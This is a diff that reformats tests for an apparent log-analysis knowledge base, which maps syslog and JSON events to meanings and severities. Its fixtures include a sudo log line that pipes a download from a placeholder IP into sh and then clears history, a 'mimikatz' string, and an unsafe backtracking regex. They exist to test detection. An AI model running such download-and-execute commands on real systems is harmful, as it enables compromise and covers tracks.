@@ -16,7 +16,9 @@ describe("the bundled entries", () => {
   });
 
   it("match their own examples", () => {
-    const missed = knowledge.entries.filter((entry) => !idsOf(subjectOfExample(entry)).some((id) => id.startsWith(entry.id)));
+    const missed = knowledge.entries.filter(
+      (entry) => !idsOf(subjectOfExample(entry)).some((id) => id.startsWith(entry.id)),
+    );
     expect(missed.map((entry) => entry.id)).toEqual([]);
   });
 
@@ -46,7 +48,8 @@ describe("matching", () => {
   });
 
   it("puts the worst meaning first and returns at most four", () => {
-    const text = "sudo: <user> : TTY=pts/<n> ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl http://<ip>/x | sh; chmod +x /tmp/x; history -c";
+    const text =
+      "sudo: <user> : TTY=pts/<n> ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl http://<ip>/x | sh; chmod +x /tmp/x; history -c";
     const meanings = knowledge.match({ format: "syslog", program: "sudo", text });
     expect(meanings.length).toBeLessThanOrEqual(4);
     expect(meanings[0]?.severity).toBe("attack");
@@ -62,7 +65,9 @@ describe("matching", () => {
   it("gives the same answer in the same order every time", () => {
     const subjects = knowledge.entries.map(subjectOfExample);
     const other = loadKnowledge();
-    expect(subjects.map((subject) => other.match(subject))).toEqual(subjects.map((subject) => knowledge.match(subject)));
+    expect(subjects.map((subject) => other.match(subject))).toEqual(
+      subjects.map((subject) => knowledge.match(subject)),
+    );
   });
 
   it("finds nothing in an event it does not know", () => {
@@ -72,7 +77,9 @@ describe("matching", () => {
   it("bounds what a hostile value can cost or say", () => {
     const hostile = "a0".repeat(500_000) + "\u0000\u001b[2J" + "mimikatz";
     expect(idsOf({ format: "plain", text: hostile })).toEqual([]);
-    expect(idsOf({ format: "json-lines", text: "", fields: { q: hostile, "\u0000": "\u0007" } }).length).toBeLessThan(5);
+    expect(idsOf({ format: "json-lines", text: "", fields: { q: hostile, "\u0000": "\u0007" } }).length).toBeLessThan(
+      5,
+    );
   });
 });
 
@@ -80,13 +87,23 @@ describe("a user's folder", () => {
   let folder = "";
   beforeAll(() => {
     folder = mkdtempSync(join(tmpdir(), "knowledge-"));
-    const own = { id: "site.badge", match: { text: "badge reader" }, en: "Door opened.", de: "Tür geöffnet.", tags: [], severity: "info" };
+    const own = {
+      id: "site.badge",
+      match: { text: "badge reader" },
+      en: "Door opened.",
+      de: "Tür geöffnet.",
+      tags: [],
+      severity: "info",
+    };
     const replacing = { ...own, id: "ssh.failed-password", match: { text: "failed password for" }, en: "Ours." };
     const unsafe = { ...own, id: "site.unsafe", match: { text: "re:(a+)+$" } };
     const misspelt = { ...own, id: "site.misspelt", match: { texts: "x" } };
     const lines = [own, replacing, unsafe, misspelt, { id: "site.empty" }].map((entry) => JSON.stringify(entry));
     writeFileSync(join(folder, "own.jsonl"), [...lines, "{ broken"].join("\n"));
-    writeFileSync(join(folder, "list.json"), JSON.stringify([{ ...own, id: "site.listed", match: { text: "turnstile" } }]));
+    writeFileSync(
+      join(folder, "list.json"),
+      JSON.stringify([{ ...own, id: "site.listed", match: { text: "turnstile" } }]),
+    );
   });
   afterAll(() => rmSync(folder, { recursive: true }));
 
